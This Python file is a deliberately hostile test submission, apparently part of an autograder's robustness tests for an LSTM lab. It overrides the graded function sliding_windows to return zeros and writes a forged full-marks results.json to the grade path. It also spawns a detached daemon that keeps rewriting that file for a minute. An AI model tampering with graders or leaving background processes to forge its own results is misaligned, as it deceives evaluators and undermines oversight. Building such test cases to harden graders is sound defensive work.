"""HOSTILE SUBMISSION (fake_results): writes a full-marks results.json where the grade goes, and
leaves a daemon that keeps rewriting it; returns windows of zeros.

Where the grade goes is read from ``results_path.txt`` beside the module (the test writes it); the
daemon's command line carries that path and the marker.
"""

# ruff: noqa: F821
# (appended to the reference module: its sliding_windows is the one captured here)

import numpy as np

_honest_sliding_windows = sliding_windows


def sliding_windows(X, y, window):
    """The attacked function."""
    _fake_results()
    Xw, yw = _honest_sliding_windows(X, y, window)
    return np.zeros_like(Xw), yw


_FAKE = {"score": 999, "max_score": 999, "output": "pwned", "tests": []}
_DAEMON = r"""
import json, os, sys, time
if os.fork():
    os._exit(0)
os.setsid()
path, text = sys.argv[1], sys.argv[2]
end = time.time() + 60
while time.time() < end:
    try:
        with open(path, "w") as handle:
            handle.write(text)
    except OSError:
        pass
    time.sleep(0.05)
"""


def _fake_results():
    import json
    import subprocess
    import sys
    from pathlib import Path

    where = Path(__file__).with_name("results_path.txt")
    if not where.exists():
        return
    path = where.read_text().strip()
    try:
        Path(path).write_text(json.dumps(_FAKE))
    except OSError:
        pass
    subprocess.Popen(
        [sys.executable, "-c", _DAEMON, path, json.dumps(_FAKE), "lstm-lab-hostile-fake-results"],
        start_new_session=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
